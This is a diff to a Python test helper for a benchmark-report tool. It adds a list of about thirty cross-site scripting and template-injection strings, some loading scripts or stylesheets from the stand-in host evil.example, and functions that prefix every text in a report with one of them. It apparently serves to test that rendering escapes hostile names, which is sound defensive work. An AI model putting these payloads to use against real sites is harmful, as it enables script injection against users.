@@ -3,9 +3,10 @@
 from __future__ import annotations
 
 import math
-from collections.abc import Iterator, Sequence
-from dataclasses import dataclass, replace
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from dataclasses import dataclass, fields, is_dataclass, replace
 from random import Random
+from typing import Any
 
 from bench import (
     CellTrace,
@@ -192,3 +193,65 @@ def _comparison(best: Contender, rival: Contender) -> Comparison:
     need = None if better else Need(5, 9)
     answer = "better" if better else "undecided"
     return Comparison(difference, difference - 0.03, difference + 0.03, 0.01, answer, "recipe", need)
+
+
+HOSTILE = (
+    "<script>window.hit=1</script>",
+    "</title><script>window.hit=1</script>",
+    "</style><script>window.hit=1</script>",
+    "</script><script>window.hit=1</script>",
+    "</textarea><svg onload=window.hit=1>",
+    "<img src=x onerror=window.hit=1>",
+    '"><img src=x onerror=window.hit=1>',
+    "'><img src=x onerror=window.hit=1>",
+    '" onmouseover="window.hit=1" x="',
+    "' onfocus='window.hit=1' autofocus='",
+    " onmouseover=window.hit=1 ",
+    "<svg/onload=window.hit=1>",
+    "<svg><script>window.hit=1</script></svg>",
+    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+    "<math><mtext><script>window.hit=1</script>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<iframe src=javascript:parent.hit=1>",
+    "javascript:window.hit=1",
+    "JaVaScRiPt:window.hit=1//",
+    "data:text/html,<script>opener.hit=1</script>",
+    "//evil.example/x.js",
+    "https://evil.example/<script src=//evil.example/x.js></script>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<details open ontoggle=window.hit=1>",
+    "<form action=//evil.example><input type=submit>",
+    "{{ ''.__class__.__mro__ }}{% for x in range(9) %}{{ x }}{% endfor %}",
+    "&lt;script&gt;window.hit=1&lt;/script&gt;<!--><![CDATA[<script>window.hit=1</script>]]>",
+)
+"""Names that would run a script, load something or break a page, if it took them for more than names."""
+
+KEPT = {"status", "better", "over", "answer", "basis", "phase", "role", "split", "chosen_on", "id", "cells"}
+KEYS = {"dataset", "done", "failed", "skipped", "commit", "dirty"}
+
+
+def renamed(value: Any, rename: Callable[[str], str]) -> Any:
+    """The same report with other texts everywhere; what programs read of it stays."""
+    if isinstance(value, str):
+        return rename(value)
+    if isinstance(value, Mapping):
+        return {k if k in KEYS else rename(k): renamed(item, rename) for k, item in value.items()}
+    if isinstance(value, list | tuple):
+        return type(value)(renamed(item, rename) for item in value)
+    if not is_dataclass(value):
+        return value
+    found = {field.name: getattr(value, field.name) for field in fields(value)}
+    return type(value)(
+        **{name: item if name in KEPT else renamed(item, rename) for name, item in found.items()}
+    )
+
+
+def hostile(found: Report, name: str) -> Report:
+    """A report in which every text begins with a hostile one."""
+    changed: Report = renamed(found, lambda text: name + text)
+    cells = {cell: renamed(trace, lambda text: name + text) for cell, trace in found.cells.items()}
+    circumstances = replace(changed.circumstances, cells=found.circumstances.cells)
+    return replace(changed, cells=cells, circumstances=circumstances)
